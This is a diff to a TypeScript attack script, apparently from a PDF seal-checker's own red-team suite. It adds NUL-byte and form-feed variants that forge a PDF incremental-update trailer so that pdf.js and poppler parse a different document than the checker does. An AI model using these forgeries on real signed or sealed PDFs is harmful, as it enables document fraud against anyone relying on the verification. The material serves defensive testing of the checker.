@@ -8,7 +8,7 @@
 // modes: nbsp (the forged header with 0xA0 separators, no trigger: what sealcheck's scan says),
 //        zero-nbsp (the trigger too: what pdf.js shows), space (0x20 separators, no trigger: the scan's control),
 //        zero-space (trigger + 0x20: a23's pdfjs-midline zero).
-//   npx tsx scripts/attack-s19/nbsp-header.ts <nbsp|zero-nbsp|space|zero-space> [midline|line]   REAL=0 for samples/valid
+//   npx tsx scripts/attack-s19/nbsp-header.ts <nbsp|zero-nbsp|space|zero-space|ff|ff-nbsp|ff-space|nul|nul-nbsp> [midline|line]   REAL=0 for samples/valid
 import { serialize } from "../../src/augment/writer.js";
 import { NumberAllocator } from "../../src/augment/writer.js";
 import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
@@ -20,14 +20,16 @@ import { judge, latin, page1 } from "../attack-s16/lib.js";
 
 const mode = process.argv[2] ?? "zero-nbsp";
 const where = process.argv[3] ?? "midline";
-if (!["nbsp", "zero-nbsp", "space", "zero-space", "ff-nbsp", "ff-space", "ff"].includes(mode) || !["midline", "line"].includes(where))
-  throw new Error("usage: <nbsp|zero-nbsp|space|zero-space|ff-nbsp|ff-space|ff> [midline|line]");
+if (!["nbsp", "zero-nbsp", "space", "zero-space", "ff-nbsp", "ff-space", "ff", "nul", "nul-nbsp"].includes(mode) || !["midline", "line"].includes(where))
+  throw new Error("usage: <nbsp|zero-nbsp|space|zero-space|ff-nbsp|ff-space|ff|nul|nul-nbsp> [midline|line]");
+// nul*: a NUL (0x00) there instead: poppler's getStartXref skips C isspace (no NUL) and strToLongLong reads 0.
+const nul = mode.startsWith("nul");
 // ff*: the trigger is the update's `startxref` followed by a form feed (0x0C) before its offset: sealcheck skips PDF white
 // space there; pdf.js's startXRef skips only 0x20, 0x09, 0x0D, 0x0A, reads no digit, 0, and rebuilds (indexObjects).
 const ff = mode.startsWith("ff");
 const trigger = mode.startsWith("zero");
 const sep = mode.endsWith("nbsp") ? "\xa0" : " ";
-const forged = mode !== "ff";
+const forged = mode !== "ff" && mode !== "nul";
 const p = page1();
 const pdf = p.pdf;
 const doc = parsePdf(wholeSource(pdf), resolveLimits());
@@ -63,7 +65,7 @@ const x = at;
 const zero = trigger ? `0 1\n${entry(off0, 0)}` : "";
 push(
   latin(
-    `xref\n${zero}${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref${ff ? "\f" : "\n"}${x}\n%%EOF\n`,
+    `xref\n${zero}${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref${ff ? "\f" : nul ? "\0" : "\n"}${x}\n%%EOF\n`,
   ),
 );
 judge(`nbsp-header ${mode} ${where}`, save(work(`s19-nbsp-${mode}-${where}`), "archive.pdf", Uint8Array.from(parts.flat())));
